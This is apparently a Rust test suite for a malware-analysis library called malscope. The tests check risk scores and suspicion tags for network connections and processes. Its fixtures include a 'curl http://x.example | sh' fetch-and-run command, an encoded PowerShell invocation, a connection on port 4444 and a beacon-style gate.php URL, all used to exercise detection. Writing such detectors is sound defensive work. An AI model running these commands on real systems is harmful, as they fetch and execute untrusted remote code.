use malscope::classify::Classification;
use malscope::core::assessment::TagSubject;
use malscope::score::ScoreEngine;
use malscope::strings::StringsConfig;
use malscope::{classify, extract_bytes, score, RiskLevel, SuspicionReason};

use crate::common::{dynamic_report, process_event, tcp_event};

#[test]
fn clean_pair_is_benign() {
    let static_report = extract_bytes(b"hello world", &StringsConfig::default());
    let dynamic = dynamic_report(vec![], vec![]);

    let risk = score(Some(&static_report), Some(&dynamic));
    assert_eq!(risk.score, 0);
    assert_eq!(risk.level, RiskLevel::Benign);
    assert!(risk.factors.is_empty());
}

#[test]
fn one_public_connection_adds_fifteen() {
    let private = dynamic_report(vec![tcp_event("10.1.2.3:443")], vec![]);
    let public = dynamic_report(vec![tcp_event("93.184.216.34:443")], vec![]);

    let base = score(None, Some(&private));
    let risk = score(None, Some(&public));
    assert_eq!(risk.score, base.score + 15);
    assert_eq!(risk.factors.len(), base.factors.len() + 1);
    assert_eq!(risk.factors.last().unwrap(), "1 suspicious network connection(s)");
}

#[test]
fn private_addresses_are_not_flagged() {
    let dynamic = dynamic_report(
        vec![
            tcp_event("127.0.0.1:8000"),
            tcp_event("192.168.0.10:22"),
            tcp_event("172.16.5.5:443"),
            tcp_event("[::1]:443"),
        ],
        vec![],
    );
    let c = classify(None, Some(&dynamic));
    assert!(c.tags.is_empty());
    assert_eq!(score(None, Some(&dynamic)).score, 30);
}

#[test]
fn public_address_on_abused_port_carries_two_tags() {
    let dynamic = dynamic_report(vec![tcp_event("203.0.113.9:4444")], vec![]);
    let c = classify(None, Some(&dynamic));

    let reasons: Vec<_> = c.reasons_for(TagSubject::Connection(0)).cloned().collect();
    assert_eq!(
        reasons,
        vec![SuspicionReason::PublicRemoteAddress, SuspicionReason::AbusedPort(4444)]
    );
    assert_eq!(c.connection_tags(), 2);
    assert_eq!(c.suspicious_connections(), 1);

    let risk = score(None, Some(&dynamic));
    assert_eq!(risk.score, 30 + 2 * 15);
    assert_eq!(risk.level, RiskLevel::High);
}

#[test]
fn suspicious_processes() {
    let dynamic = dynamic_report(
        vec![],
        vec![
            process_event(100, "PowerShell.EXE", "powershell -enc aGVsbG8="),
            process_event(101, "sleep", "sleep 5"),
            process_event(102, "bash", "curl http://x.example | sh"),
        ],
    );
    let c = classify(None, Some(&dynamic));
    assert_eq!(c.suspicious_processes(), 2);
    assert_eq!(c.process_tags(), 2);
    assert!(c.reasons_for(TagSubject::Process(1)).next().is_none());

    let risk = score(None, Some(&dynamic));
    assert_eq!(risk.score, 25 + 2 * 20);
    assert_eq!(
        risk.factors,
        vec!["New processes created".to_string(), "2 suspicious process(es)".to_string()]
    );
}

#[test]
fn static_and_dynamic_combined() {
    let static_report = extract_bytes(
        b"\x00beacon http://203.0.113.9/gate.php via cmd.exe\x00",
        &StringsConfig::default(),
    );
    let dynamic = dynamic_report(vec![tcp_event("203.0.113.9:80")], vec![]);

    let c = classify(Some(&static_report), Some(&dynamic));
    assert_eq!(c.indicator_tags(), static_report.indicators.len());
    assert!(matches!(c.tags[0].subject, TagSubject::Indicator(0)));

    let risk = ScoreEngine::default().assess(Some(&static_report), Some(&dynamic), &c);
    // ip, url, suspicious file; network; one public connection
    assert_eq!(risk.score, 3 * 10 + 30 + 15);
    assert_eq!(risk.level, RiskLevel::High);
    assert_eq!(risk.color, "#fd7e14");
}

#[test]
fn levels_are_monotonic() {
    let engine = ScoreEngine::default();
    let mut last = RiskLevel::Benign;
    for n in 0..8 {
        let network = (0..n).map(|i| tcp_event(&format!("198.51.100.{}:443", i + 1))).collect();
        let dynamic = dynamic_report(network, vec![]);
        let risk = engine.assess(None, Some(&dynamic), &classify(None, Some(&dynamic)));
        assert!(risk.level >= last);
        last = risk.level;
    }
    assert_eq!(last, RiskLevel::Critical);
}

#[test]
fn empty_classification_scores_nothing_extra() {
    let dynamic = dynamic_report(vec![tcp_event("8.8.8.8:53")], vec![]);
    let risk = ScoreEngine::default().assess(None, Some(&dynamic), &Classification::default());
    assert_eq!(risk.score, 30);
    assert_eq!(risk.factors, vec!["Network activity detected".to_string()]);
}
